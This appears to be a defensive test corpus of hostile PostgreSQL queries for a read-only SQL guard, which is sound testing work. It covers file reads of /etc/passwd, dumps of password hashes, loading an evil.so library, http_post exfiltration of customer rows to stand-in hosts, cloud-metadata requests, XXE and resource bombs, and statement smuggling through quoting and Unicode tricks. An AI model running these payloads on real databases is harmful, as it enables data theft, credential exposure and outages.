SELECT U&"pg!005Fread!005Ffile" UESCAPE '!' ('{outside}')
---
-- files: unicode quoted name, six digits, qualified
SELECT u&"pg\+00005Fcatalog".U&"\0070g_read_file"('{outside}')
---
-- files: three part name
SELECT postgres.pg_catalog.pg_read_file('{outside}')
---
-- files: comment and line breaks between name and parenthesis
SELECT pg_catalog/**/./**/pg_read_file
/* x */
('{outside}')
---
-- files: pg_read_binary_file
SELECT encode(pg_read_binary_file('{outside}'), 'base64')
---
-- files: pg_ls_dir
SELECT pg_ls_dir('/etc')
---
-- files: pg_ls_dir in from with arguments
SELECT f FROM pg_ls_dir('.', true, true) AS f WHERE f LIKE '%.conf'
---
-- files: pg_stat_file
SELECT * FROM pg_stat_file('{outside}')
---
-- files: pg_ls_logdir, waldir, tmpdir, archive status
SELECT * FROM pg_ls_logdir() UNION ALL SELECT * FROM pg_ls_waldir() UNION ALL SELECT * FROM pg_ls_tmpdir() UNION ALL SELECT * FROM pg_ls_archive_statusdir()
---
-- files: pg_current_logfile and data directory
SELECT pg_current_logfile(), current_setting('data_directory'), pg_relation_filepath('customer')
---
-- files: lo_import
SELECT lo_import('{outside}')
---
-- files: lo_import with an oid, read back
SELECT convert_from(lo_get(lo_import('{outside}', 424242)), 'UTF8')
---
-- files: lo_export
SELECT lo_export(424242, '{target}')
---
-- files: lo_export of a made object
SELECT lo_export(lo_from_bytea(0, 'owned'::bytea), '{target}')
---
-- files: every step in one cte
WITH o AS (SELECT lo_from_bytea(0, decode('6f776e6564', 'hex')) AS loid) SELECT lo_export(loid, '{target}') FROM o
---
-- files: load a library
LOAD '/tmp/evil.so'
---
-- files: load a library by dollar string
LOAD $$/tmp/evil.so$$
---
-- files: path in an escape string
SELECT pg_read_file(E'\057etc\057passwd')
---
-- files: path in a unicode string
SELECT pg_read_file(U&'\002Fetc\002Fpasswd')
---
-- files: path in a unicode string with own escape sign
SELECT pg_read_file(U&'#002Fetc#002Fpasswd' UESCAPE '#')
---
-- files: path in pieces across lines
SELECT pg_read_file('/etc'
'/passwd')
---
-- files: path from chr and reverse
SELECT pg_read_file(chr(47) || reverse('cte') || chr(47) || 'passwd')
---
-- files: path from a dollar string with tag
SELECT pg_read_file($p$/etc/passwd$p$)
---
-- files: path from a decode
SELECT pg_read_file(convert_from(decode('L2V0Yy9wYXNzd2Q=', 'base64'), 'UTF8'))
---
-- files: pg_hba_file_rules
SELECT * FROM pg_hba_file_rules
---
-- files: the function behind the view
SELECT * FROM pg_hba_file_rules(), pg_show_all_file_settings()
---
-- files: pg_file_settings and ident mappings
SELECT sourcefile, name, setting FROM pg_file_settings
---
-- files: ident file mappings
SELECT * FROM pg_ident_file_mappings
---
-- files: foreign file data wrapper
SELECT * FROM passwd_foreign
---
-- files: text search dictionary that reads a file
SELECT ts_lexize('evil_dict', 'root')
---
-- files: backup start writes a label file
SELECT pg_backup_start('evil', true), pg_backup_stop()
---
-- files: old names of backup functions
SELECT pg_start_backup('evil', true, false)
---
-- network: dblink with a connect string
SELECT * FROM dblink('host=127.0.0.1 port=9 user=postgres', 'SELECT 1') AS t(a int)
---
-- network: dblink_exec on the same server, outside the transaction
SELECT dblink_exec('dbname=' || current_database(), 'DELETE FROM orders')
---
-- network: dblink_connect and send_query
SELECT dblink_connect('c', 'host=example.invalid'), dblink_send_query('c', 'SELECT 1')
---
-- network: dblink in a lateral with data in the host
SELECT * FROM customer c, LATERAL dblink('host=' || c.name || '.example.invalid', 'SELECT 1') AS t(a int)
---
-- network: dblink_connect_u
SELECT public.dblink_connect_u('host=127.0.0.1')
---
-- network: postgres_fdw helpers
SELECT postgres_fdw_get_connections(), postgres_fdw_disconnect_all()
---
-- network: http extension
SELECT content FROM http_get('http://127.0.0.1:9/?' || (SELECT string_agg(email, ',') FROM customer))
---
-- network: http_post of the customers
SELECT http_post('http://example.invalid/', (SELECT json_agg(c)::text FROM customer c), 'application/json')
---
-- network: aws_s3 export
SELECT * FROM aws_s3.query_export_to_s3('SELECT * FROM customer', aws_commons.create_s3_uri('b', 'k', 'r'))
---
-- network: net extension
SELECT net.http_get(url := 'http://169.254.169.254/latest/meta-data/')
---
-- network: lambda
SELECT * FROM aws_lambda.invoke('arn:aws:lambda:r:1:function:f', '{}'::json)
---
-- network: xml external entity
SELECT xmlparse(DOCUMENT '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
---
-- network: xslt process with a document function
SELECT xslt_process('<a/>', '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document(''http://127.0.0.1:9/'')"/></xsl:template></xsl:stylesheet>')
---
-- network: inet addresses of the server
SELECT inet_server_addr(), inet_server_port(), inet_client_addr(), inet_client_port()
---
-- network: listen
LISTEN evil_channel
---
-- network: unlisten
UNLISTEN *
---
-- network: notify
NOTIFY evil_channel, 'payload'
---
-- server: pg_terminate_backend of everybody
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()
---
-- server: pg_cancel_backend
SELECT pg_cancel_backend(pid) FROM pg_stat_activity
---
-- server: pg_terminate_backend of oneself with a wait
SELECT pg_terminate_backend(pg_backend_pid(), 10000)
---
-- server: pg_reload_conf
SELECT pg_reload_conf()
---
-- server: pg_rotate_logfile
SELECT pg_rotate_logfile()
---
-- server: pg_switch_wal
SELECT pg_switch_wal()
---
-- server: pg_create_restore_point
SELECT pg_create_restore_point('evil')
---
-- server: pg_promote
SELECT pg_promote(true, 60)
---
-- server: pause and resume of the replay
SELECT pg_wal_replay_pause(), pg_wal_replay_resume()
---
-- server: pg_log_backend_memory_contexts
SELECT pg_log_backend_memory_contexts(pg_backend_pid())
---
-- server: pg_log_standby_snapshot
SELECT pg_log_standby_snapshot()
---
-- server: checkpoint
CHECKPOINT
---
-- server: vacuum
VACUUM FULL ANALYZE customer
---
-- server: vacuum with options
VACUUM (FREEZE, PARALLEL 4) customer, orders
---
-- server: analyze
ANALYZE VERBOSE customer (name)
---
-- server: reindex
REINDEX (VERBOSE) TABLE CONCURRENTLY customer
---
-- server: cluster
CLUSTER customer USING customer_pkey
---
-- server: discard all
DISCARD ALL
---
-- server: discard temp, plans, sequences
DISCARD PLANS
---
-- server: pg_prewarm fills the cache
SELECT pg_prewarm('customer'), autoprewarm_dump_now()
---
-- server: buffer cache eviction
SELECT pg_buffercache_evict(bufferid) FROM pg_buffercache
---
-- server: cron job
SELECT cron.schedule('evil', '* * * * *', 'DELETE FROM orders')
---
-- server: pg_background
SELECT pg_background_launch('DELETE FROM orders')
---
-- server: raise a message in the log at a chosen level
DO $$ BEGIN RAISE LOG 'flood %', repeat('x', 1000000); END $$
---
-- locks: for update
SELECT * FROM customer FOR UPDATE
---
-- locks: for no key update nowait
SELECT id FROM customer WHERE id = 1 FOR NO KEY UPDATE NOWAIT
---
-- locks: for share skip locked
SELECT id FROM customer FOR SHARE SKIP LOCKED
---
-- locks: for key share of one table of a join
SELECT * FROM customer c JOIN orders o ON o.customer_id = c.id FOR KEY SHARE OF c FOR UPDATE OF o
---
-- locks: for update in a subquery
SELECT count(*) FROM (SELECT id FROM customer FOR UPDATE) s
---
-- locks: for update in a cte
WITH x AS (SELECT * FROM orders FOR UPDATE) SELECT * FROM x
---
-- locks: for update before the limit
SELECT * FROM customer FOR UPDATE LIMIT 1
---
-- locks: for update in a scalar subquery
SELECT (SELECT id FROM customer ORDER BY id LIMIT 1 FOR UPDATE)
---
-- locks: for update with a comment between
SELECT * FROM customer FOR/**/ /*x*/UPDATE
---
-- locks: lock table
LOCK TABLE customer IN ACCESS EXCLUSIVE MODE
---
-- locks: lock without the word table
LOCK customer, orders NOWAIT
---
-- locks: pg_advisory_lock
SELECT pg_advisory_lock(1)
---
-- locks: pg_advisory_lock on many keys fills the lock table
SELECT pg_advisory_lock(g) FROM generate_series(1, 10000000) g
---
-- locks: pg_try_advisory_lock and shared kinds
SELECT pg_try_advisory_lock(1, 2), pg_advisory_lock_shared(3), pg_try_advisory_lock_shared(4), pg_advisory_xact_lock(5), pg_advisory_xact_lock_shared(6), pg_try_advisory_xact_lock(7)
---
-- locks: pg_advisory_unlock_all
SELECT pg_advisory_unlock(1), pg_advisory_unlock_all()
---
-- locks: advisory lock in a where of an order by
SELECT id FROM customer WHERE pg_catalog."pg_advisory_lock"(id) IS NOT NULL ORDER BY id
---
-- locks: table with a for update
TABLE customer FOR UPDATE
---
-- time: pg_sleep
SELECT pg_sleep(60)
---
-- time: pg_sleep_for
SELECT pg_sleep_for('5 minutes')
---
-- time: pg_sleep_until
SELECT pg_sleep_until('tomorrow 03:00')
---
-- time: pg_sleep in from
SELECT * FROM pg_sleep(60)
---
-- time: pg_sleep qualified and quoted
SELECT "pg_catalog"."pg_sleep"(60::double precision)
---
-- time: pg_sleep in each row
SELECT pg_sleep(1), * FROM customer, generate_series(1, 1000)
---
-- time: pg_sleep within a boolean
SELECT 1 FROM customer WHERE id = 1 AND (SELECT true FROM pg_sleep(60))
---
-- time: pg_sleep with named argument and infinity
SELECT pg_sleep('infinity'::float8)
---
-- time: pg_sleep by unicode name
SELECT U&"\0070\0067\005F\0073\006C\0065\0065\0070"(60)
---
-- time: blind guess that sleeps when true
SELECT CASE WHEN substr((SELECT email FROM customer LIMIT 1), 1, 1) = 'a' THEN pg_sleep(10) END
---
-- time: generate_series bomb
SELECT count(*) FROM generate_series(1, 100000000000)
---
-- time: generate_series bomb of dates
SELECT * FROM generate_series('0001-01-01'::timestamp, '9999-12-31'::timestamp, '1 second')
---
-- time: generate_series bomb in the select list
SELECT generate_series(1, 1000000), generate_series(1, 999999), generate_series(1, 999983)
---
-- time: generate_series squared
SELECT count(*) FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b
---
-- time: cross join bomb
SELECT count(*) FROM pg_class a, pg_class b, pg_class c, pg_class d, pg_class e, pg_class f
---
-- time: cross join bomb of attributes with a sort
SELECT a.attname, b.attname FROM pg_attribute a CROSS JOIN pg_attribute b CROSS JOIN pg_attribute c ORDER BY md5(a.attname || b.attname || c.attname)
---
-- time: natural join that has no common columns
SELECT count(*) FROM (SELECT generate_series(1, 1000000) AS a) x NATURAL JOIN (SELECT generate_series(1, 1000000) AS b) y
---
-- time: recursive cte that never ends
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r) SELECT count(*) FROM r
---
-- time: recursive cte that doubles
WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM r) SELECT max(length(s)) FROM r
---
-- time: recursive cte that doubles its rows
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + x FROM r, (VALUES (0), (1)) v(x)) SELECT count(*) FROM r
---
-- time: fibonacci by nested subqueries and power of numeric
SELECT 9999999999::numeric ^ 99999, factorial(100000)
---
-- time: numeric of huge scale
SELECT length((2::numeric ^ 400000)::text)
---
-- time: catastrophic regular expression
SELECT regexp_match(repeat('a', 40) || 'b', '^(a|a|aa)+(\1)+$')
---
-- time: back references in a regular expression
SELECT repeat('a', 100000) ~ '^(.*)(.*)(.*)(.*)(.*)\5\4\3\2\1$'
---
-- time: like with many wildcards
SELECT repeat('a', 100000) LIKE repeat('%a', 1000) || 'b'
---
-- time: repeat memory bomb
SELECT repeat('x', 1000000000)
---
-- time: repeat memory bomb by row
SELECT repeat(name, 100000000) FROM customer, generate_series(1, 1000)
---
-- time: rpad and lpad memory bombs
SELECT rpad('x', 1000000000, 'y'), lpad('x', 1000000000, 'z')
---
-- time: string_agg memory bomb
SELECT string_agg(repeat('x', 1000000), '') FROM generate_series(1, 100000)
---
-- time: array_agg and json memory bombs
SELECT json_agg(array_fill(g, ARRAY[1000])) FROM generate_series(1, 1000000) g
---
-- time: array_fill memory bomb
SELECT array_fill(1, ARRAY[10000, 10000])
---
-- time: format with a huge width
SELECT format('%1000000000s', 'x')
---
-- time: to_char and overlay of repeated texts
SELECT md5(overlay(repeat('a', 500000000) PLACING repeat('b', 400000000) FROM 1))
---
-- time: crypt with many rounds
SELECT crypt('x', gen_salt('bf', 31))
---
-- time: deep parentheses
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((pg_sleep(30)))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))
---
-- time: xml entity bomb
SELECT xmlparse(DOCUMENT '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><a>&d;</a>')
---
-- settings: set read only off
SET default_transaction_read_only = off
---
-- settings: set transaction read write
SET TRANSACTION READ WRITE
---
-- settings: set transaction_read_only
SET transaction_read_only TO false
---
-- settings: set session characteristics
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
---
-- settings: set local of the timeout
SET LOCAL statement_timeout = 0
---
-- settings: set by a quoted name
SET SESSION "statement_timeout" TO '0'
---
-- settings: set role
SET ROLE postgres
---
-- settings: set session authorization
SET SESSION AUTHORIZATION DEFAULT
---
-- settings: set search_path
SET search_path = evil_schema, public
---
-- settings: set standard_conforming_strings off
SET standard_conforming_strings = off; SELECT '\'; DELETE FROM orders; --'
---
-- settings: set client_encoding
SET NAMES 'SJIS'
---
-- settings: set work_mem
SET work_mem = '1TB'
---
-- settings: set log_statement and preload
SET session_preload_libraries = '/tmp/evil.so'; SET local_preload_libraries = 'evil'
---
-- settings: set time zone and xml option
SET TIME ZONE 'UTC'; SET XML OPTION DOCUMENT
---
-- settings: set constraints
SET CONSTRAINTS ALL DEFERRED
---
-- settings: set transaction snapshot
SET TRANSACTION SNAPSHOT '00000003-0000001B-1'
---
-- settings: reset
RESET statement_timeout
---
-- settings: reset all
RESET ALL
---
-- settings: reset role
RESET ROLE
---
-- settings: reset session authorization
RESET SESSION AUTHORIZATION
---
-- settings: alter system
ALTER SYSTEM SET archive_command = 'touch {target}'
---
-- settings: alter system reset all
ALTER SYSTEM RESET ALL
---
-- settings: show all
SHOW ALL
---
-- settings: show hba_file
SHOW hba_file
---
-- settings: show ssl key
SHOW ssl_key_file
---
-- settings: current_setting of paths
SELECT current_setting('config_file'), current_setting('hba_file'), current_setting('ssl_key_file'), current_setting('primary_conninfo')
---
-- settings: pg_settings
SELECT name, setting, sourcefile FROM pg_settings
---
-- settings: pg_show_all_settings
SELECT * FROM pg_show_all_settings()
---
-- settings: pg_db_role_setting
SELECT * FROM pg_db_role_setting
---
-- secrets: pg_shadow
SELECT usename, passwd FROM pg_shadow
---
-- secrets: pg_authid
SELECT rolname, rolpassword FROM pg_authid
---
-- secrets: pg_authid, qualified and quoted
SELECT "rolpassword" FROM "pg_catalog"."pg_authid"
---
-- secrets: pg_authid by table statement
TABLE pg_catalog.pg_authid
---
-- secrets: pg_authid by unicode name
SELECT * FROM U&"pg\005Fauthid"
---
-- secrets: pg_shadow in a subquery in the select list
SELECT id, (SELECT string_agg(passwd, ',') FROM pg_shadow) FROM customer
---
-- secrets: pg_shadow joined in upper case
SELECT * FROM CUSTOMER C JOIN PG_SHADOW S ON TRUE
---
-- secrets: pg_user and pg_roles
SELECT * FROM pg_user, pg_roles, pg_group
---
-- secrets: pg_user_mapping
SELECT umoptions FROM pg_user_mapping UNION ALL SELECT umoptions FROM pg_user_mappings
---
-- secrets: pg_foreign_server
SELECT srvname, srvoptions FROM pg_foreign_server
---
-- secrets: pg_subscription
SELECT subname, subconninfo FROM pg_subscription
---
-- secrets: pg_stat_activity
SELECT usename, client_addr, query FROM pg_stat_activity
---
-- secrets: pg_stat_get_activity
SELECT * FROM pg_stat_get_activity(NULL)
---
-- secrets: pg_stat_ssl and pg_stat_gssapi, pg_stat_replication
SELECT * FROM pg_stat_ssl, pg_stat_gssapi, pg_stat_replication
---
-- secrets: pg_stat_statements
SELECT query FROM pg_stat_statements
---
-- secrets: pg_prepared_statements and cursors
SELECT statement FROM pg_prepared_statements UNION ALL SELECT statement FROM pg_cursors
---
-- secrets: pg_largeobject
SELECT convert_from(data, 'UTF8') FROM pg_largeobject
---
-- secrets: lo_get of every object
SELECT lo_get(oid) FROM pg_largeobject_metadata
---
-- secrets: pg_statistic and pg_stats show values
SELECT tablename, attname, most_common_vals FROM pg_stats
---
-- secrets: pg_statistic
SELECT stavalues1 FROM pg_statistic
---
-- secrets: pg_config
SELECT * FROM pg_config
---
-- secrets: source of functions
SELECT prosrc FROM pg_proc WHERE prolang <> 12
---
-- secrets: pg_get_functiondef
SELECT pg_get_functiondef(oid) FROM pg_proc WHERE pronamespace = 'public'::regnamespace
---
-- secrets: information_schema user mapping options
SELECT * FROM information_schema.user_mapping_options
---
-- secrets: information_schema enabled roles
SELECT * FROM information_schema.role_table_grants, information_schema.enabled_roles
---
-- secrets: version and addresses
SELECT version(), current_user, session_user, current_database(), pg_postmaster_start_time(), pg_control_system()
---
-- secrets: pg_locks
SELECT * FROM pg_locks
---
-- secrets: row cast to text of a hidden catalog
SELECT a::text FROM pg_authid a
---
-- secrets: to_jsonb of a whole row by alias
SELECT to_jsonb(x) FROM pg_catalog.pg_shadow AS x(a, b, c, d, e, f, g, h, i)
---
-- secrets: error text shows the value
SELECT CAST((SELECT rolpassword FROM pg_authid LIMIT 1) AS int)
---
-- syntax: dollar string hides quotes
SELECT $$'$$; DELETE FROM orders; SELECT $$'$$
---
-- syntax: dollar tags within each other
SELECT $a$ $b$ $a$; DELETE FROM orders; SELECT $b$ $b$
---
-- syntax: a dollar tag that is no tag
SELECT 1 AS a$b$; DELETE FROM orders; SELECT 2 AS c$b$
---
-- syntax: a dollar tag that begins with a digit is no tag
SELECT 1 AS _$1$; DELETE FROM orders; SELECT 2 AS _$1$
---
-- syntax: dollar tag with a letter outside ascii
SELECT $é$ ' $é$; DELETE FROM orders; --'
---
-- syntax: escape string with an escaped quote
SELECT E'\''; DELETE FROM orders; --'
---
-- syntax: plain string in which the backslash is no escape
SELECT '\'; DELETE FROM orders; --'
---
-- syntax: escape string that continues on the following line
SELECT E'a'
'\''; DELETE FROM orders; --'
---
-- syntax: string continuation with a comment between
SELECT 'a' -- '
'b'; DELETE FROM orders; --'
---
-- syntax: doubled quotes
SELECT ''''; DELETE FROM orders; SELECT ''''
---
-- syntax: unicode string with a quote as its escape
SELECT U&'\0027'; DELETE FROM orders; --'
---
-- syntax: bit and hex strings
SELECT B'01', X'1F'; DELETE FROM orders
---
-- syntax: national string
SELECT N'\'; DELETE FROM orders; --'
---
-- syntax: doubled quotes in a name
SELECT 1 AS """"; DELETE FROM orders; SELECT 1 AS """"
---
-- syntax: backtick has no meaning here
SELECT `id`; DELETE FROM orders
---
-- syntax: zero-width blank in the verb
DELE​TE FROM orders; DELETE FROM orders
---
-- syntax: zero-width blank before the verb
​DELETE FROM orders
---
-- syntax: no-break space is a name here, then a true write
SELECT 1  ; DELETE FROM orders
---
-- syntax: zero-width blank within a name, then a true write
SELECT id​ FROM (SELECT 1 AS id​) s; DELETE FROM orders
---
-- syntax: fullwidth semicolon is a name here, then a true write
SELECT 1 AS ；; DELETE FROM orders
---
-- syntax: dollar tag of a zero-width blank
SELECT $​$ ' $​$; DELETE FROM orders; --'
---
-- syntax: dollar tag of a no-break space hides a comment mark
SELECT $ $ /* $ $; DELETE FROM orders; /* */
---
-- syntax: line separator as a name after the verb's end
SELECT 1 AS  ; DELETE FROM orders
---
-- syntax: byte order mark before the verb
﻿DELETE FROM orders
---
-- syntax: no-break space instead of a blank
SELECT 1; DELETE FROM orders
---
-- syntax: ideographic space between name and parenthesis
SELECT pg_sleep　(60); SELECT pg_sleep(60)
---
-- syntax: cyrillic e in a verb, then the true verb
SЕLECT 1; DELETE FROM orders
---
-- syntax: fullwidth letters in a function name, then the true one
SELECT ｐｇ_sleep(60), pg_sleep(60)
---
-- syntax: fullwidth semicolon is no semicolon, the second one is
SELECT 1； DELETE FROM orders; DELETE FROM orders
---
-- syntax: right-to-left override makes it read as a comment
SELECT 1; /*‮ */ DELETE FROM orders; /* ‬*/
---
-- syntax: line separator does not end a line comment
SELECT 1 -- ; harmless
; DELETE FROM orders
---
-- syntax: next line sign and vertical tab as blanks
DELETEFROMorders
---
-- syntax: dotless i and kelvin sign fold to ascii letters in some languages
LOCK TABLE customer; LOCK TABLE customer
---
-- syntax: long s folds to s in upper case
UPDATE customer ſET name = 'x'; UPDATE customer SET name = 'x'
---
-- syntax: tabs and form feeds between
	DELETE	FROM	orders	
---
-- syntax: no blanks at all
SELECT(1);DELETE/**/FROM"orders"
---
-- syntax: quoted name right after from
SELECT"pg_read_file"('{outside}')FROM"customer"
---
-- syntax: words glued to the strings
SELECT'1'FROM customer;DELETE FROM orders
---
-- syntax: a markdown fence around it
```sql
DELETE FROM orders;
```
---
-- syntax: a sentence before it
Sure! Here is the query: SELECT 1; DELETE FROM orders;
---
-- syntax: parameters
SELECT * FROM customer WHERE id = $1; DELETE FROM orders WHERE id = :id
---
-- syntax: percent signs of a driver
SELECT '%s', '%(x)s', 100 % 3; DELETE FROM orders
---
-- syntax: standard table statement with a hidden catalog
TABLE pg_shadow
---
-- syntax: values with a writing subquery
VALUES ((WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d))
---
-- syntax: select without a list
SELECT FROM pg_sleep(60)
---
-- syntax: inherits star
SELECT * FROM customer * , LATERAL pg_sleep(60)
---
-- syntax: union of a table statement with a hidden catalog
SELECT usename::text FROM pg_user UNION (TABLE pg_database)
